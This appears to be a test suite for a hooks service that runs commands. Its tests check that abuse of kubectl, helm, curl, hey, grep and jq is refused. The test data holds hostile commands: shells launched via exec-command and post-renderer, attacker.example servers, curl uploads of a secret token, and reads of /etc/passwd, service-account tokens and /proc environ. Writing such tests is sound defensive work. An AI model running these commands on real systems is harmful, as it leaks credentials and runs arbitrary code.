/**
 * Finding 1 of issue 12: allowed programs used as interpreters. Each test performs an attack through the API
 * and shows that nothing ran and no local file was read or written.
 */
import { copyFileSync, existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fakePrograms, type FakePrograms } from './fakes/programs.js';
import { localServer, post, sinkServer, task, testService, type TestService } from './helpers.js';

let dir: string;
let secret: string;
let fakes: FakePrograms;
let svc: TestService;
beforeEach(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'hooks-attack-'));
  secret = path.join(dir, 'token');
  writeFileSync(secret, 'mounted-secret-0123456789', { mode: 0o440 });
  fakes = fakePrograms('kubectl', 'helm');
  svc = testService({}, { env: { PATH: fakes.path } });
});
afterEach(async () => {
  await svc.shutdown(0);
  fakes.remove();
  rmSync(dir, { recursive: true, force: true });
});

const refusal = async (type: string, cmd: string): Promise<{ status: number; error: string; output: string }> => {
  const res = await post(svc, '/', task({ type, cmd, returnCmdOutput: 'true' }));
  return { status: res.status, error: res.body.error ?? '', output: res.text };
};

describe('kubectl as an interpreter', () => {
  it.each([
    ['bash', 'kubectl config set-credentials u --exec-command=/bin/sh --exec-arg=-c --exec-arg=id'],
    ['kubectl', 'config set-credentials u --exec-command=/bin/sh'],
    ['kubectl', 'config view --raw'],
    ['bash', 'kubectl --kubeconfig=/tmp/evil get pods'],
    ['kubectl', '--kubeconfig /tmp/evil get pods'],
    ['kubectl', 'get pods --kubeconfig=/tmp/evil'],
    ['kubectl', '--server=https://attacker.example get pods'],
    ['kubectl', '-s https://attacker.example get pods'],
    ['kubectl', 'plugin list'],
    ['kubectl', 'evil-plugin --now'],
    ['kubectl', 'cp test/pod:/etc/passwd /tmp/x'],
    ['kubectl', 'proxy --port=8001'],
    ['kubectl', 'port-forward svc/x 8080:80'],
    ['kubectl', 'edit deploy/x'],
    ['kubectl', 'apply -f /etc/passwd'],
    ['kubectl', 'apply --filename=/etc/passwd'],
    ['kubectl', 'apply -f/etc/passwd'],
    ['kubectl', 'apply -f http://127.0.0.1:9/a.yaml,/var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['kubectl', 'apply --filename=http://127.0.0.1:9/a.yaml,/etc/passwd'],
    ['kubectl', 'apply -f -,/etc/passwd'],
    ['bash', 'kubectl apply -f http://127.0.0.1:9/a.yaml,/var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['kubectl', 'apply -k /etc'],
    ['kubectl', 'create configmap leak --from-file=/etc/tollgate-hooks/token'],
    ['kubectl', 'create secret tls x --cert=/etc/passwd --key=/etc/passwd'],
    ['kubectl', 'get pods -o go-template-file=/etc/passwd'],
    ['kubectl', 'get pods -ojsonpath-file=/etc/passwd'],
    ['kubectl', 'get pods --token=stolen'],
    ['kubectl', 'get pods --log-file=/tmp/x'],
    ['kubectl', '--cache-dir=/tmp/x get pods'],
  ])('%s %j is refused and kubectl never runs', async (type, cmd) => {
    expect(await refusal(type, cmd)).toMatchObject({ status: 400, error: 'argument_not_allowed' });
    expect(fakes.runs('kubectl')).toEqual([]);
  });

  it('still runs ordinary kubectl commands', async () => {
    for (const cmd of [
      '-n test get pods -o jsonpath={.items[*].metadata.name}',
      'rollout status deploy/podinfo -n test --timeout=60s',
      'logs -f deploy/podinfo -n test',
      'apply -f -',
      'apply -f http://127.0.0.1:9/a.yaml,https://127.0.0.1:9/b.yaml',
    ]) {
      expect((await refusal('kubectl', cmd)).status).toBe(200);
    }
    expect(fakes.runs('kubectl')).toHaveLength(5);
  });
});

describe('helm as an interpreter', () => {
  it.each([
    'plugin install https://example.invalid/evil-plugin',
    'evil-plugin run',
    'install podinfo podinfo/podinfo --post-renderer /bin/sh',
    'upgrade podinfo podinfo/podinfo --post-renderer=/bin/sh --post-renderer-args=-c',
    '--kubeconfig=/tmp/evil status podinfo',
    'status podinfo --kube-apiserver https://attacker.example --kube-token x',
    'install podinfo /etc',
    'install podinfo ./chart',
    'install podinfo ../../etc',
    'install podinfo podinfo/podinfo -f /etc/tollgate-hooks/token',
    'template x oci://r/c -f http://127.0.0.1:9/v.yaml,/proc/self/environ',
    'template x oci://r/c --values=http://127.0.0.1:9/v.yaml,/proc/self/environ',
    'template x oci://r/c --values -,/etc/tollgate-hooks/token',
    'install podinfo podinfo/podinfo --set-file a=/etc/tollgate-hooks/token',
    'template podinfo podinfo/podinfo --output-dir /tmp/x',
    'repo add evil https://example.invalid',
    'pull podinfo/podinfo --untar',
  ])('helm %j is refused and helm never runs', async (cmd) => {
    expect(await refusal('helm', cmd)).toMatchObject({ status: 400, error: 'argument_not_allowed' });
    expect(await refusal('bash', `helm ${cmd}`)).toMatchObject({ status: 400, error: 'argument_not_allowed' });
    expect(fakes.runs('helm')).toEqual([]);
  });

  it('still runs ordinary helm commands', async () => {
    for (const cmd of [
      'test podinfo -n test',
      'status podinfo -n test -o json',
      'upgrade podinfo oci://ghcr.io/stefanprodan/charts/podinfo --set replicaCount=2 -n test',
    ]) {
      expect((await refusal('helm', cmd)).status).toBe(200);
    }
    expect(fakes.runs('helm')).toHaveLength(3);
  });
});

describe('curl, hey, grep and jq touching local files', () => {
  it('curl -o/-O/-T/-K, @file data and file: URLs are refused and write or send nothing', async () => {
    const target = await localServer((req, res) => {
      req.resume();
      res.end('ok');
    });
    const sink = await sinkServer();
    try {
      const cmds = [
        `curl -o ${dir}/x file://${secret}`,
        `curl -so ${dir}/x ${target.url}`,
        `curl -sO ${target.url}/y`,
        `curl --output ${dir}/x ${target.url}`,
        `curl -T ${secret} ${sink.url}`,
        `curl -K ${secret} ${target.url}`,
        `curl --config=${secret} ${target.url}`,
        `curl -d @${secret} ${sink.url}`,
        `curl -sd@${secret} ${sink.url}`,
        `curl --data-binary @${secret} ${sink.url}`,
        `curl --data-urlencode t@${secret} ${sink.url}`,
        `curl -F f=@${secret} ${sink.url}`,
        `curl -F 'f=<${secret}' ${sink.url}`,
        `curl -H @${secret} ${sink.url}`,
        `curl -w @${secret} ${sink.url}`,
        `curl file://${secret}`,
        `curl FILE:${secret}`,
        `curl --url file://${secret}`,
        `curl -D ${dir}/headers ${target.url}`,
        `curl -c ${dir}/jar ${target.url}`,
        `curl --outp ${dir}/x ${target.url}`,
        `curl --unix-socket /var/run/docker.sock http://x/`,
        `curl --proto =file ${target.url}`,
      ];
      for (const cmd of cmds) {
        expect([cmd, await refusal('bash', cmd)]).toEqual([cmd, expect.objectContaining({ status: 400, error: 'argument_not_allowed' })]);
      }
      expect(readdirSync(dir)).toEqual(['token']);
      expect(sink.bodies).toEqual([]);
      expect(await refusal('bash', `curl -s -o /dev/null -w %{http_code} ${target.url}`)).toMatchObject({ status: 200, output: '200' });
    } finally {
      await target.close();
      await sink.close();
    }
  });

  it('hey -D <file> is refused and the file never reaches the target', async () => {
    const sink = await sinkServer();
    try {
      for (const cmd of [
        `hey -n 1 -c 1 -q 1 -D ${secret} ${sink.url}`,
        `hey -n 1 -c 1 -q 1 -D=${secret} ${sink.url}`,
        `hey -n 1 -c 1 -q 1 --D ${secret} ${sink.url}`,
      ]) {
        expect(await refusal('bash', cmd)).toMatchObject({ status: 400, error: 'argument_not_allowed' });
      }
      expect(sink.bodies).toEqual([]);
    } finally {
      await sink.close();
    }
  });

  it('grep and jq read their standard input only', async () => {
    for (const cmd of [
      `grep . ${secret}`,
      `grep -r mounted ${dir}`,
      `grep -e x ${secret}`,
      `grep -f ${secret}`,
      `jq -R . ${secret}`,
      `jq -n --rawfile t ${secret} '$t'`,
      `jq -n -L ${dir} 'import "token" as $t; $t'`,
      `echo x | grep -a HOOKS /proc/${process.pid}/environ`,
    ]) {
      const res = await refusal('bash', cmd);
      expect([cmd, res.status, res.error]).toEqual([cmd, 400, 'argument_not_allowed']);
      expect(res.output).not.toContain('mounted-secret');
    }
    expect(await refusal('bash', 'echo \'{"a":1}\' | jq -c .a | grep 1')).toMatchObject({ status: 200, output: '1\n' });
  });
});

describe('programs pinned at start', () => {
  it('runs the program found at start, not one put on PATH or elsewhere later', async () => {
    const late = fakePrograms();
    const pinned = testService({ allowedCommands: ['echo', 'curl'] }, { env: { PATH: late.path } });
    try {
      writeFileSync(path.join(late.dir, 'echo'), `#!/bin/sh\ntouch '${dir}/hijacked'\n`, { mode: 0o755 });
      const res = await post(pinned, '/', task({ type: 'bash', cmd: 'echo hi', returnCmdOutput: 'true' }));
      expect([res.status, res.text]).toEqual([200, 'hi\n']);
      const copy = path.join(late.dir, 'curl');
      copyFileSync(pinned.allowlist.files().get('curl')!, copy);
      const other = await post(pinned, '/', task({ type: 'bash', cmd: `${copy} --version` }));
      expect([other.status, other.body.error]).toEqual([400, 'program_not_allowed']);
      expect(existsSync(path.join(dir, 'hijacked'))).toBe(false);
    } finally {
      await pinned.shutdown(0);
      late.remove();
    }
  });
});
